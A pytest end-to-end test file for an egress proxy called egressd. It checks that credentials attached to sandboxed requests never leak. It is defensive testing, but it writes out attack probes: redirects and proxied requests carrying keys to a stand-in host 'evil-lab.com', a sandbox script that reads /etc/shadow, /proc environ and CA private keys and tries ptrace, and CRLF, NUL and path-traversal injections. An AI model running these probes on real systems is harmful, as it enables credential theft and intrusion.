"""CRED rows: secrets of ours and of others.

Each row of a credential looks at four places: what the sandbox saw of the secret (nothing), what the origin was sent (it, once,
and no key of the sandbox's own), what the journal says (its name, never its value), and what anybody else was sent.
Signatures are made in memory (`test_a_signature_of_the_sandboxs_own`): who would check them is a real object store elsewhere.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import stat
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from egressd.lab import Lab, clean_env, topology
from egressd.lab.stand import HERE, Stand
from egressd.policy.credential import Attach
from egressd.rulefiles.load import load_rules
from egressd.rulefiles.problems import Problems
from tests.bypass.arena import RULES as COMMON
from tests.bypass.arena import SHIPPED, Arena, Outcome, Row
from tests.gate.inspector.lab import HOST, run
from tests.gate.inspector.lender import Lender, keyed, lease_of
from tests.gate.inspector.scene import Scene

pytestmark = pytest.mark.e2e

API = "api.lab-origin.com"
WWW = "www.lab-origin.com"
KEYED = "keyed.lab-keys.com"
OTHER = "other.lab-keys.com"
ANY = "any.lab-keys.com"
CANARY = "c4n4ry-s3cr3t-0123456789"
REAL = "r3al-s3cr3t/+9876543210"
"""What is attached: a secret whose every spelling differs."""
STRICT, DUMMIED, BASIC = "strict.lab-keys.com", "dummy.lab-keys.com", "basic.lab-keys.com"
_V1 = '["GET,HEAD,POST /v1/**", "WEBSOCKET /ws", "GET /redirect", "GET /mirror"]'
_OTHER = f'    hosts: [{OTHER}]\n    requests: ["GET,HEAD,POST /**"]\n'
RULES = COMMON.replace(
    """    with: {repos: ["acme/*"]}
""",
    """    with: {repos: ["acme/*"]}
    credential: github
""",
).replace(
    "deny:\n",
    "".join(
        f"  - id: {name}\n    hosts: [{name}.lab-keys.com]\n    requests: {_V1}\n    credential: {name}\n"
        for name in ("keyed", "strict", "dummy", "basic")
    )
    + f"""  - id: other
{_OTHER}  - id: any
    hosts: [{ANY}]
    requests: ["ANY /**"]
deny:
""",
)


def defined(name: str, attach: str, more: str = "", host: str = "", requests: str = _V1) -> str:
    """A credential in credentials.yaml that reads a file."""
    return (
        f"  {name}:\n    for: [{{hosts: [{host or f'{name}.lab-keys.com'}], requests: {requests}}}]\n"
        f"    source: {{file: {HERE}/secrets/{name}}}\n    attach: {attach}\n{more}"
    )


_GITHUB = defined("github", "{basic: x-access-token}", host="github.com", requests='["GET,POST /acme/**"]')
CREDENTIALS = (
    "schema: 1\ncredentials:\n"
    + _GITHUB
    + defined("keyed", "{header: x-api-key}")
    + defined("strict", "{bearer: true}", "    client_credentials: deny\n")
    + defined(
        "dummy", "{placeholder: {variable: LAB_DUMMY, prefix: sk-lab-, length: 48, headers: [authorization]}}"
    )
    + defined("basic", "{basic: x-access-token}")
)
SECRETS = dict.fromkeys(("github", "keyed", "strict", "dummy", "basic"), f"{REAL}\n")
"""Each with a newline at its end, as editors leave it (CRED-11)."""
_ENCODED = base64.b64encode(f"x-access-token:{REAL}".encode()).decode()


def prepare(lab: Lab) -> None:
    """Names that only these rows need."""
    for name in (KEYED, OTHER, ANY, STRICT, DUMMIED, BASIC):
        lab.set_name(name, a=[topology.API])


def silent(outcome: Outcome) -> None:
    """The secrets are in no record, and the sandbox has seen none of ours in any spelling."""
    for text in (json.dumps(outcome.records), outcome.said):
        for spelled in (REAL, quote(REAL, safe=""), base64.b64encode(REAL.encode()).decode(), _ENCODED):
            assert spelled not in text
    assert CANARY not in json.dumps(outcome.records)


def arrived(host: str, field: str, value: str, *, bare: Sequence[str] = ()) -> Callable[[Outcome], None]:
    """The host was sent the credential in this field, once, and nothing of the client's own; hosts in `bare` no secret."""

    def also(outcome: Outcome) -> None:
        silent(outcome)
        seen = outcome.lab.requests(host=host)
        assert seen, f"{host} was asked nothing"
        for request in seen:
            assert [held for name, held in request.headers if name == field] == [value]
            assert CANARY not in json.dumps([request.headers, request.target])
            assert [held for _, held in request.headers if REAL in held or _ENCODED in held] == [value]
            assert request.tls
        for other in bare:
            told = json.dumps(
                [[request.headers, request.target] for request in outcome.lab.requests(host=other)]
            )
            assert REAL not in told
            assert _ENCODED not in told
        used = [record for record in outcome.records if record.get("lease") and record.get("host") == host]
        assert {record["event"] for record in used} == {"decision"}
        assert {record["credential"] for record in used} == {host.partition(".")[0]}

    return also


def ask(
    host: str, path: str, method: str = "GET", head: bytes = b"", port: int = 443, body: bytes = b""
) -> str:
    """Code of a request by TLS."""
    data = f"get({path!r}, host={host!r}, method={method!r}, head={head!r}, body={body!r})"
    return f"say(shown(tls({host!r}, {port}, {data}, {host!r})))"


def upgrade(host: str, path: str, more: bytes = b"") -> str:
    """Code of a WebSocket's handshake."""
    fields = b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
    key = b"Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n"
    data = f"get({path!r}, host={host!r}, head={fields + key + more!r}, close=False)"
    return f"say(shown(tls({host!r}, 443, {data}, {host!r}, seconds=1)))"


def denied(reason: str, status: int = 403) -> str:
    """What the client must see."""
    return rf"{status} egressd: (?!.*{CANARY}).*reason {reason}\)"


def refused(
    id_: str, title: str, code: str, reason: str, status: int = 403, wins: str | None = "200 OK", **more: Any
) -> Row:
    """A request that is refused and whose secrets are not told."""
    records = (("request", "deny", reason),)
    return Row(
        id_, code, title=title, wins=wins, sees=denied(reason, status), records=records, also=silent, **more
    )


def attached(id_: str, title: str, code: str, host: str = KEYED, sees: str = "200 OK", **more: Any) -> Row:
    """A request that the origin gets with the credential, whatever it brought itself."""
    field, value = {
        KEYED: ("x-api-key", REAL),
        STRICT: ("authorization", f"Bearer {REAL}"),
        DUMMIED: ("authorization", f"Bearer {REAL}"),
        BASIC: ("authorization", f"Basic {_ENCODED}"),
    }[host]
    also = arrived(host, field, value, bare=more.pop("bare", ()))
    values: dict[str, Any] = {
        "wins": "200 OK",
        "records": (("request", "allow", "rule"),),
        "reaches": (host,),
        "rule": host.partition(".")[0],
    }
    return Row(id_, code, title=title, sees=sees, also=also, **(values | more))


_KEY = f"x-api-key: {CANARY}\r\n".encode()
_BEARER = f"Authorization: Bearer {CANARY}\r\n".encode()


def dummy(host: str, path: str, fields: str, body: str = "") -> str:
    """Code of a request with the sandbox's placeholder, `{0}`, in it; where there is none, with something like it."""
    return (
        "d = os.environ.get('LAB_DUMMY', 'sk-lab-' + 'x' * 41)\n"
        f"body = {body!r}.format(d).encode()\n"
        f"head = {fields!r}.format(d) + '\\r\\nContent-Length: %d\\r\\n' % len(body)\n"
        f"method = 'POST' if body else 'GET'\n"
        f"data = get({path!r}.format(d), host={host!r}, method=method, head=head.encode(), body=body)\n"
        f"say(shown(tls({host!r}, 443, data, {host!r})))"
    )


ELSEWHERE = [
    refused(
        "CRED-01",
        "the host of a credential at the attacker's address, by TLS",
        f"say(shown(tls('11.6.6.6', 443, get('/v1/x', host='{KEYED}'), '{KEYED}')))",
        "ip_literal",
        wins="owned",
    ),
    refused(
        "CRED-01",
        "the host of a credential at the attacker's address, in the clear",
        f"say(shown(tcp('11.6.6.6', 80, get('/v1/x', host='{KEYED}'))))",
        "ip_literal",
        wins="owned",
    ),
    refused(
        "CRED-01",
        "the host of a credential on another's connection",
        f"say(shown(tls('{API}', 443, get('/v1/x', host='{KEYED}'), '{API}')))",
        "authority_mismatch",
    ),
    refused(
        "CRED-02",
        "in the clear",
        f"say(shown(tcp('{KEYED}', 80, get('/v1/x', host='{KEYED}'))))",
        "scheme_not_allowed",
        note="DESIGN.md: a rule with a credential is https alone, so that http is refused before a credential is thought of",
    ),
    attached(
        "CRED-03",
        "a path that echoes what it got",
        ask(KEYED, "/v1/headers"),
        sees=rf'200 OK.*"x-api-key", "\*{{{len(REAL)}}}"',
    ),
    *(
        attached("CRED-03", f"an echo, {shape}", ask(KEYED, f"/mirror?as={shape}"))
        for shape in ("split", "events", "json", "base64", "url", "head")
    ),
    refused(
        "CRED-05", "TRACE to the host of a credential", ask(KEYED, "/v1/x", "TRACE"), "method_not_allowed"
    ),
    refused(
        "CRED-05", "TRACE where any method is allowed", ask(ANY, "/headers", "TRACE"), "method_not_allowed"
    ),
    refused(
        "CRED-05",
        "OPTIONS that goes no further",
        ask(KEYED, "/v1/x", "OPTIONS", b"Max-Forwards: 0\r\n"),
        "method_not_allowed",
    ),
    attached(
        "CRED-06",
        "a redirect to the host of a credential",
        f"say(run('curl', '-sSkL', '--location-trusted', '--max-time', '6', '-H', 'Authorization: Bearer {CANARY}',"
        f" 'https://{ANY}/redirect?to=https://{KEYED}/v1/x'))",
        wins='"host": "keyed',
        sees='"host": "keyed',
        reaches=(ANY, KEYED),
        bare=(ANY,),
    ),
    attached(
        "CRED-06",
        "a redirect from the host of a credential to another one",
        f"say(run('curl', '-sSkL', '--location-trusted', '--max-time', '6',"
        f" 'https://{KEYED}/redirect?to=https://{OTHER}/headers'))",
        wins='"host": "other',
        sees='"host": "other',
        reaches=(KEYED, OTHER),
        bare=(OTHER,),
    ),
    attached(
        "CRED-06",
        "a redirect from the host of a credential to the attacker",
        f"say(run('curl', '-sSkL', '--location-trusted', '--max-time', '6',"
        f" 'https://{KEYED}/redirect?to=https://www.evil-lab.com/'))",
        wins="owned",
        sees="egressd: denied: no rule",
        records=(("request", "allow", "rule"), ("connection", "deny", "not_allowed")),
    ),
    Row(
        "CRED-06",
        f"say(run('curl', '-sSkL', '--location-trusted', '--max-time', '6', '-H', 'Authorization: Bearer {CANARY}',"
        f" 'https://{ANY}/redirect?to=https://www.evil-lab.com/'))",
        title="a redirect to the attacker carries a client's own key nowhere",
        wins="owned",
        sees=r"egressd: denied: no rule",
        records=(("request", "allow", "rule"), ("connection", "deny", "not_allowed")),
        reaches=(ANY,),
        also=silent,
    ),
    attached(
        "CRED-07",
        "the attacker's own key to the host of a credential is replaced, and the record says so",
        ask(KEYED, "/v1/x", "POST", _KEY + _BEARER + b"Content-Length: 0\r\n"),
        shows={"event": "decision", "detail": "its own keys were taken out: x-api-key, authorization"},
    ),
    *(
        refused(
            "CRED-07",
            f"the attacker's own key where the credential allows none: {where}",
            ask(STRICT, path, head=head),
            "client_credentials",
            rule="strict",
        )
        for where, path, head in (
            ("in a field", "/v1/x", _KEY),
            ("in the same field", "/v1/x", _BEARER),
            ("in the query", f"/v1/x?access_token={CANARY}", b""),
        )
    ),
    attached("CRED-07", "no key where the credential allows none", ask(STRICT, "/v1/x"), STRICT),
    Row(
        "CRED-07",
        ask(OTHER, "/headers", head=_KEY),
        title="a client's own key to a host without a credential passes, untold",
        wins=f'200 OK.*"{CANARY}"',
        sees=f'200 OK.*"{CANARY}"',
        records=(("request", "allow", "rule"),),
        reaches=(OTHER,),
        also=silent,
        note="which keys may be used where no credential is attached is the issue of credentials: `client_credentials: deny`",
    ),
    *(
        attached("CRED-08", f"a key in {where}", ask(KEYED, path, head=head))
        for where, path, head in (
            ("the query", f"/v1/x?key={CANARY}&api_key={CANARY}", b""),
            (
                "the query, in other spellings",
                f"/v1/x?%6Bey={CANARY}&API-Key={CANARY}&access.token[]={CANARY}",
                b"",
            ),
            ("x-goog-api-key", "/v1/x", f"x-goog-api-key: {CANARY}\r\n".encode()),
            ("api-key", "/v1/x", f"api-key: {CANARY}\r\n".encode()),
            ("api_key", "/v1/x", f"Api_Key: {CANARY}\r\n".encode()),
            ("Basic", "/v1/x", f"Authorization: Basic {CANARY}\r\n".encode()),
            ("a cookie", "/v1/x", f"Cookie: session={CANARY}\r\n".encode()),
            (
                "a field that Connection names",
                "/v1/x",
                f"X-Odd: {CANARY}\r\nConnection: X-Odd, x-api-key\r\n".encode(),
            ),
        )
    ),
    Row(
        "CRED-08",
        ask(OTHER, f"/n?key={CANARY}&page=2"),
        title="a key in a query that passes is not told",
        wins="200 OK",
        sees="200 OK",
        records=(("request", "allow", "rule"),),
        reaches=(OTHER,),
        also=silent,
        shows={"event": "decision", "query": f"key=<{len(CANARY)}>&page=<1>"},
    ),
    refused(
        "CRED-08",
        "a key in the URL's user information",
        f"data = b'GET https://key:{CANARY}@{OTHER}/n HTTP/1.1\\r\\nHost: {OTHER}\\r\\nConnection: close\\r\\n\\r\\n'\n"
        f"say(shown(tls('{OTHER}', 443, data, '{OTHER}')))",
        "userinfo_in_authority",
        400,
    ),
    attached(
        "CRED-10", "a placeholder in its slot", dummy(DUMMIED, "/v1/x", "Authorization: Bearer {0}"), DUMMIED
    ),
    *(
        refused(
            "CRED-10",
            f"a placeholder {where}",
            dummy(host, path, fields, body),
            "placeholder_leak",
        )
        for where, host, path, fields, body in (
            ("to another host", OTHER, "/headers", "Authorization: Bearer {0}", ""),
            ("to the host of another credential", KEYED, "/v1/x", "X-Api-Key: {0}", ""),
            ("in a query", OTHER, "/x?key={0}", "X: y", ""),
            ("in a path", OTHER, "/{0}", "X: y", ""),
            ("in a path of its own host", DUMMIED, "/v1/{0}", "Authorization: Bearer {0}", ""),
            (
                "in another field of its own host",
                DUMMIED,
                "/v1/x",
                "Authorization: Bearer {0}\r\nX-Note: {0}",
                "",
            ),
        )
    ),
    *(
        Row(
            "CRED-10",
            dummy(host, "/v1/x", fields, '{{"key": "{0}"}}'),
            title=f"a placeholder in a body to {where}",
            wins="200 OK",
            sees=denied("placeholder_leak"),
            records=(("request", "allow", "rule"), ("request", "end", "placeholder_leak")),
            reaches=(host,),
            also=silent,
        )
        for where, host, fields in (
            ("another host", OTHER, "X: y"),
            ("its own host", DUMMIED, "Authorization: Bearer {0}"),
        )
    ),
    refused(
        "CRED-10",
        "a key of the sandbox's own in the slot of a placeholder",
        ask(DUMMIED, "/v1/x", head=_BEARER),
        "credential_slot_missing",
        400,
        rule="dummy",
    ),
]


def git_was_told(outcome: Outcome) -> None:
    """Every request of git's had Basic with the token, once."""
    silent(outcome)
    seen = outcome.lab.requests(host="github.com")
    assert len(seen) >= 2
    for request in seen:
        assert [value for name, value in request.headers if name == "authorization"] == [f"Basic {_ENCODED}"]


SCOPES = [
    refused("CRED-15", "another port", ask(KEYED, "/v1/x", port=8443), "port_not_allowed"),
    refused("CRED-15", "another path", ask(KEYED, "/v2/x"), "path_not_allowed"),
    refused("CRED-15", "another method", ask(KEYED, "/v1/x", "DELETE"), "method_not_allowed"),
    refused(
        "CRED-15", "a path that leaves by dots", ask(KEYED, "/v1/messages/../../files"), "path_ambiguous"
    ),
    refused(
        "CRED-15",
        "a path that leaves by dots in hexadecimal",
        ask(KEYED, "/v1/%2e%2e/files"),
        "path_ambiguous",
    ),
    Row(
        "CRED-16",
        "say(shown(proxy(get('http://www.lab-origin.com/headers', 'www.lab-origin.com', head="
        f"b'Proxy-Authorization: Basic {CANARY}\\r\\nProxy-Connection: close\\r\\n'))))",
        title="a token for the proxy goes no further",
        wins=CANARY,
        sees=f"200 OK(?!.*{CANARY})(?!.*proxy-)",
        records=(("request", "allow", "rule"),),
        reaches=(WWW,),
        also=silent,
        note="tokens belong to the `explicit` wiring; the namespace wiring needs none, so one is dropped unread",
    ),
    Row(
        "CRED-16",
        f"say(run('curl', '-sSk', '--max-time', '6', '-x', 'http://user:{CANARY}@127.0.0.1:3128', 'http://{WWW}/headers'))",
        title="a token in the proxy's URL is not told",
        wins=r"proxy-authorization",
        sees=r'"host": "www(?!.*proxy-authorization)',
        records=(("request", "allow", "rule"),),
        reaches=(WWW,),
        also=silent,
    ),
    Row(
        "CRED-16",
        f"via = b'CONNECT {API}:443 HTTP/1.1\\r\\nProxy-Authorization: Bearer {CANARY}\\r\\n\\r\\n'\n"
        f"say(shown(tls('', 0, get('/headers'), '{API}', via=via)))",
        title="a token on a tunnel goes no further",
        wins="200 OK",
        sees=f"200 OK(?!.*{CANARY})",
        records=(("request", "allow", "rule"),),
        reaches=(API,),
        also=silent,
    ),
    *(
        attached(
            "CRED-17",
            f"an echo in {coding}, asked for in every coding",
            ask(KEYED, f"/mirror?as={coding}", head=b"Accept-Encoding: br, zstd, gzip\r\n"),
        )
        for coding in ("gzip", "deflate")
    ),
    Row(
        "CRED-17",
        ask(KEYED, "/mirror?as=br", head=b"Accept-Encoding: br\r\n"),
        title="an echo in a coding that nobody reads",
        wins="200 OK",
        sees=denied("unscannable", 502),
        records=(("request", "allow", "rule"), ("request", "end", "unscannable")),
        reaches=(KEYED,),
        also=arrived(KEYED, "x-api-key", REAL),
    ),
    attached(
        "CRED-19",
        "an echo of Basic",
        ask(BASIC, "/v1/echo", "POST", b"Content-Length: 0\r\n" + _BEARER),
        BASIC,
        sees=r'200 OK.*"authorization", "[^"]*\*{8}',
    ),
    attached("CRED-19", "an echo of Basic, in base64 again", ask(BASIC, "/mirror?as=url"), BASIC),
    attached(
        "CRED-20",
        "an origin that dumps the request in an error page",
        ask(KEYED, "/v1/status/400"),
        wins="200 OK|400",
    ),
    *(
        refused(
            "CRED-20",
            f"egressd's own page: {reason}",
            code,
            reason,
            status,
            wins=wins,
            moot="nothing of egressd's is told there",
            asks=asks,
        )
        for code, reason, status, wins, asks in (
            (
                ask(API, "/forbidden", "POST", _KEY + _BEARER + b"Content-Length: 0\r\n"),
                "method_not_allowed",
                403,
                "200 OK",
                (),
            ),
            (
                ask(API, "/n", head=_KEY + b"X-Big: " + b"x" * 70000 + b"\r\n"),
                "head_too_large",
                431,
                "200 OK",
                (),
            ),
            (ask(API, "/n", head=_KEY + b" folded\r\n"), "bad_header", 400, "200 OK", ()),
        )
    ),
    Row(
        "CRED-20",
        ask("refused.lab-origin.com", "/n", head=_KEY + _BEARER),
        title="egressd's own page: upstream_unreachable",
        moot="there is nobody to answer",
        sees=denied("upstream_unreachable", 502),
        records=(("request", "allow", "rule"), ("request", "end", "upstream_unreachable")),
        asks=("refused.lab-origin.com",),
        also=silent,
    ),
    attached(
        "CRED-21",
        "a WebSocket to the host of a credential, a key among its subprotocols",
        upgrade(
            KEYED,
            "/ws",
            b"Sec-WebSocket-Protocol: chat, openai-insecure-api-key." + CANARY.encode() + b"\r\n" + _KEY,
        ),
        wins="101 Switching",
        sees="101 Switching",
    ),
    refused(
        "CRED-21",
        "a WebSocket with a key of its own where the credential allows none",
        upgrade(STRICT, "/ws", b"Sec-WebSocket-Protocol: bearer, " + CANARY.encode() + b"\r\n"),
        "client_credentials",
        wins="101 Switching",
    ),
    Row(
        "CRED-22",
        ask(
            OTHER,
            "/headers",
            head=b"Authorization: AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20260101/us-east-1/s3/aws4_request, "
            b"SignedHeaders=host;x-amz-date, "
            b"Signature=" + CANARY.encode() + b"\r\nX-Amz-Date: 20260101T000000Z\r\n",
        ),
        title="signed fields pass as they were signed",
        wins=CANARY,
        sees=f'"x-amz-date", "20260101T000000Z".*|{CANARY}.*20260101T000000Z',
        records=(("request", "allow", "rule"),),
        reaches=(OTHER,),
        also=silent,
    ),
    Row(
        "CRED-22",
        ask(OTHER, f"/x?X-Amz-Credential={CANARY}&X-Amz-Signature={CANARY}"),
        title="a presigned URL of another's is told by its parameters, without their values",
        wins="200 OK",
        sees="200 OK",
        records=(("request", "allow", "rule"),),
        reaches=(OTHER,),
        also=silent,
        shows={
            "event": "decision",
            "query": f"X-Amz-Credential=<{len(CANARY)}>&X-Amz-Signature=<{len(CANARY)}>",
        },
    ),
    attached(
        "CRED-22",
        "a signature of the client's to the host of a credential",
        ask(
            KEYED,
            "/v1/x",
            head=f"Authorization: AWS4-HMAC-SHA256 Credential=x, Signature={CANARY}\r\n".encode(),
        ),
    ),
    Row(
        "CRED-23",
        "import tempfile\n"
        "folder = tempfile.mkdtemp()\n"
        "url = 'https://github.com/acme/tools.git'\n"
        "say(run('git', '-c', 'http.sslVerify=false', '-c', 'credential.helper=', 'clone', '-q', url, folder))",
        title="git is given Basic, and asks nobody",
        wins=r"\[0\]",
        sees=r"(?!.*Username).*\[0\]",
        records=(("request", "allow", "rule"),),
        reaches=("github.com",),
        rule="github-clone",
        also=git_was_told,
    ),
    Row(
        "CRED-23",
        "import tempfile\n"
        "folder = tempfile.mkdtemp()\n"
        f"url = 'https://own:{CANARY}@github.com/acme/tools.git'\n"
        "say(run('git', '-c', 'http.sslVerify=false', '-c', 'credential.helper=', 'clone', '-q', url, folder))",
        title="git with a key of its own in the URL is given ours",
        wins=r"\[0\]",
        sees=r"(?!.*Username).*\[0\]",
        records=(("request", "allow", "rule"),),
        reaches=("github.com",),
        rule="github-clone",
        also=git_was_told,
    ),
]


@pytest.mark.parametrize("row", [*ELSEWHERE, *SCOPES], ids=str)
def test_no_secret_goes_astray(once: Arena, row: Row) -> None:
    once.holds(row)


_HEAD = (
    "schema: 1\ncredentials:\n  keyed:\n"
    f"    for: [{{hosts: [{KEYED}], requests: ['GET,HEAD,POST /v1/**', 'WEBSOCKET /ws']}}]\n"
)
_SOURCE, _ATTACH = "    source: {file: /run/secrets/keyed}\n", "    attach: {header: x-api-key}\n"
WRONG = [
    pytest.param(
        _HEAD + f"    source: {CANARY}\n" + _ATTACH,
        "wrong_type",
        id="CRED-11 a secret in place of its source",
    ),
    pytest.param(
        f"schema: 1\ncredentials:\n  keyed: {CANARY}\n",
        "wrong_type",
        id="CRED-11 a secret in place of a credential",
    ),
    pytest.param(f"KEY={CANARY}\n", "wrong_type", id="CRED-11 a file of variables"),
    pytest.param(
        _HEAD + f"    source: {{file: /x, env: {CANARY}}}\n" + _ATTACH, "bad_value", id="CRED-11 two sources"
    ),
    pytest.param(
        _HEAD + _SOURCE + _ATTACH + f"    client_credentials: {CANARY}\n",
        "bad_value",
        id="CRED-11 no such way",
    ),
    pytest.param(
        _HEAD + _SOURCE + f'    attach: {{header: x, prefix: "{CANARY}\\r\\nX: b"}}\n',
        "bad_value",
        id="CRED-11 CRLF in a template",
    ),
    pytest.param(
        _HEAD + _SOURCE + '    attach: {header: "x-api-key\\r\\nX: b"}\n',
        "bad_value",
        id="CRED-11 CRLF in a header's name",
    ),
    pytest.param(
        _HEAD + '    source: {file: "/run/secrets/keyed\\0"}\n' + _ATTACH,
        "bad_value",
        id="CRED-11 a NUL in a path",
    ),
    pytest.param(
        _HEAD.replace("/v1/", "/v2/") + _SOURCE + _ATTACH,
        "credential_not_covered",
        id="CRED-15 for another path",
    ),
    pytest.param(
        _HEAD.replace(KEYED, OTHER) + _SOURCE + _ATTACH,
        "credential_not_covered",
        id="CRED-15 for another host",
    ),
]


def lay(stand: Stand) -> None:
    """Make the files of the secrets."""
    for name, value in SECRETS.items():
        stand.secret(name, value)


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    """A rules folder whose profile uses credentials."""
    folder = tmp_path / "rules"
    shutil.copytree(SHIPPED, folder)
    (folder / "profiles" / "lab.yaml").write_text(RULES)
    return folder


@pytest.mark.parametrize(("text", "code"), WRONG)
def test_a_credential_that_is_none_is_refused_without_a_word_of_it(rules: Path, text: str, code: str) -> None:
    file = rules.parent / "credentials.yaml"
    file.write_text(
        text.replace(
            "schema: 1\ncredentials:\n", f"schema: 1\ncredentials:\n{_GITHUB.replace(HERE, '/stand')}"
        )
    )
    problems = load_rules(rules, credentials=file)
    assert isinstance(problems, Problems)
    assert code in {problem.code.value for problem in problems}, str(problems)
    assert CANARY not in str(problems)


@pytest.mark.parametrize(
    ("change", "code"),
    [
        pytest.param(
            (_OTHER, _OTHER + "    schemes: [http, https]\n    credential: other\n"),
            "credential_constraint",
            id="CRED-02 a credential over http",
        ),
        pytest.param(
            (_OTHER, f"    hosts: [{OTHER}]\n    treatment: tunnel\n    credential: other\n"),
            "not_inspected",
            id="TLS-06 a credential in a tunnel",
        ),
        pytest.param(
            (_OTHER, f"    hosts: [{OTHER}]\n    credential: other\n"),
            "credential_constraint",
            id="CRED-15 a credential for whatever is asked",
        ),
        pytest.param(
            (
                "  - id: other",
                f"  - id: second\n    hosts: [{KEYED}]\n    requests: ['GET /v1/x']\n    credential: other\n  - id: other",
            ),
            "credential_conflict",
            id="CRED-10 two credentials for one request",
        ),
    ],
)
def test_a_rule_may_not_send_a_credential_astray(rules: Path, change: tuple[str, str], code: str) -> None:
    text = RULES.replace(*change)
    assert text != RULES
    (rules / "profiles" / "lab.yaml").write_text(text)
    problems = load_rules(rules)
    assert isinstance(problems, Problems)
    assert code in {problem.code.value for problem in problems}, str(problems)


BREAKS = """
def requestheaders(flow):
    if "x-break" in flow.request.headers:
        raise RuntimeError("broken")
"""
_EVERYWHERE = """
from inside import *
fields = b'X-Api-Key: {0}\\r\\nAuthorization: Basic {0}\\r\\nCookie: s={0}\\r\\nReferer: https://x/?k={0}\\r\\n'
both = b'Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n'
for more in (b'', b'X-Break: 1\\r\\n', b' folded\\r\\n', both, b'Upgrade: {0}\\r\\n'):
    for path in ('/n?key={0}&{0}', '/status/500?key={0}'):
        say(shown(tls('api.lab-origin.com', 443, get(path, head=fields + more), 'api.lab-origin.com'))[:12])
upload = get('/upload', method='POST', head=fields + b'Content-Length: 24\\r\\n', body=b'{0}')
say(shown(tls('api.lab-origin.com', 443, upload, 'api.lab-origin.com'))[:12])
named = get('/n', host='key:{0}@api.lab-origin.com', head=fields)
say(shown(tls('api.lab-origin.com', 443, named, 'api.lab-origin.com'))[:12])
say(shown(proxy(b'CONNECT key:{0}@api.lab-origin.com:443 HTTP/1.1\\r\\n' + fields + b'\\r\\n'))[:12])
say(shown(proxy(b'GET http://key:{0}@www.lab-origin.com/?{0} HTTP/1.1\\r\\n' + fields + b'\\r\\n'))[:12])
say(shown(proxy(b'GET http://www.evil-lab.com/?key={0} HTTP/1.1\\r\\nHost: www.evil-lab.com\\r\\n' + fields + b'\\r\\n'))[:12])
say(shown(tcp('www.lab-origin.com', 80, b'GET /?key={0} HTTP/9.9\\r\\nHost: x\\r\\n' + fields + b'\\r\\n'))[:12])
"""


def test_what_clients_send_as_secrets_is_written_nowhere(once: Arena) -> None:
    """CRED-12: headers, cookies, user information, queries and bodies, allowed, refused and broken."""
    breaks = Path(once.lab.directory, "breaks.py")
    breaks.write_text(BREAKS)
    with Stand(
        once.lab,
        RULES,
        shipped=SHIPPED,
        more=f"inspect: {{addons: [{breaks}]}}\n",
        credentials=CREDENTIALS,
    ) as stand:
        lay(stand)
        for part in Path(__file__).parent.glob("inside*.py"):
            shutil.copy(part, stand.workspace)
        done = stand.run(["/usr/bin/python3", "-W", "ignore", "-c", _EVERYWHERE.format(CANARY)])
        said = done.stdout.splitlines()
        assert len(said) == 16, (done.stdout, done.stderr[-3000:])
        assert [line.split()[1] for line in said[:4]] == ["200", "500", "502", "502"], said
        assert len(stand.records()) > 30
        assert CANARY not in stand.journal.read_text()
        assert "RuntimeError" in done.stderr
        assert CANARY not in done.stderr
    once.life_goes_on()


_LOOK = """
import ctypes, glob, json, os, sys
seen = {}
for path in json.loads(sys.argv[1]):
    try:
        seen[path] = open(path, 'rb').read().decode('latin-1') if not os.path.isdir(path) else os.listdir(path)
    except OSError as error:
        seen[path] = type(error).__name__
outside = []
for path in glob.glob('/proc/[0-9]*'):
    for part in ('environ', 'cmdline'):
        try:
            outside.append(open(f'{path}/{part}', 'rb').read().decode('latin-1'))
        except OSError:
            pass
traced = ctypes.CDLL(None).ptrace(16, int(sys.argv[2]), 0, 0)
try:
    os.kill(int(sys.argv[2]), 0)
    alive = True
except OSError:
    alive = False
print(json.dumps({'seen': seen, 'outside': outside, 'traced': traced, 'alive': alive, 'env': dict(os.environ)}))
"""


@pytest.fixture(scope="module")
def kept(shared_lab: Lab) -> Iterator[Stand]:
    """An installation with every kind of secret that there is."""
    with Stand(shared_lab, RULES, shipped=SHIPPED, credentials=f"# {CANARY}\n{CREDENTIALS}") as stand:
        lay(stand)
        yield stand


def test_nothing_of_ours_is_seen_inside(kept: Stand) -> None:
    """CRED-13: files, processes and variables of egressd, from inside; only the public certificate is there."""
    private = (
        "ca",
        "credentials.yaml",
        "secrets",
        "secrets/keyed",
        "egressd.yaml",
        "rules",
        "journal.jsonl",
        "state",
        "control.sock",
    )
    paths = [str(kept.directory / name) for name in private]
    paths += [str(kept.directory / "ca" / name) for name in ("ca.key", "root.key", "key.pem", "private")]
    paths += [
        f"/proc/{os.getpid()}/root/etc/shadow",
        f"/proc/{os.getppid()}/environ",
        "/proc/1/root/root",
        "/proc/kcore",
    ]
    done = kept.run(
        ["/usr/bin/python3", "-c", _LOOK, json.dumps(paths), str(os.getpid())],
        env={"EGRESSD_TEST_KEY": CANARY},
    )
    assert done.returncode == 0, done.stderr[-2000:]
    found = json.loads(done.stdout)
    empty = {
        path: what
        for path, what in found["seen"].items()
        if what not in ("", [], "FileNotFoundError", "PermissionError")
    }
    assert empty == {}, empty
    assert CANARY not in done.stdout
    assert REAL not in done.stdout
    assert found["traced"] == -1
    assert not found["alive"]
    ours = [text for text in found["outside"] if "egressd.gate" in text or "\0-m\0egressd" in text]
    assert ours == []
    certificate = Path(found["env"]["SSL_CERT_FILE"])
    assert certificate.name.endswith((".crt", ".pem"))
    assert list(kept.directory.glob("ca/**/*")), "the installation has keys to be seen"


def test_each_installation_has_a_key_of_its_own_that_only_it_reads(kept: Stand) -> None:
    """CRED-14: modes from the first moment on, whatever the umask; no two installations share a root."""
    roots = []
    for number in range(2):
        folder = kept.directory / f"fresh-{number}"
        shell = f"umask 0; exec {' '.join(kept.egressd('ca', 'export', '--ca-dir', str(folder)))}"
        done = kept.lab.host_exec(
            ["sh", "-c", shell], privileged=not kept.lab.rootless, env=clean_env(kept.lab, trust=False)
        )
        assert done.returncode == 0, done.stderr
        assert "PRIVATE KEY" not in done.stdout
        roots.append(done.stdout)
        keys = [path for path in folder.rglob("*") if path.is_file() and b"PRIVATE KEY" in path.read_bytes()]
        assert keys
        for key in keys:
            assert stat.S_IMODE(key.stat().st_mode) == 0o600, key
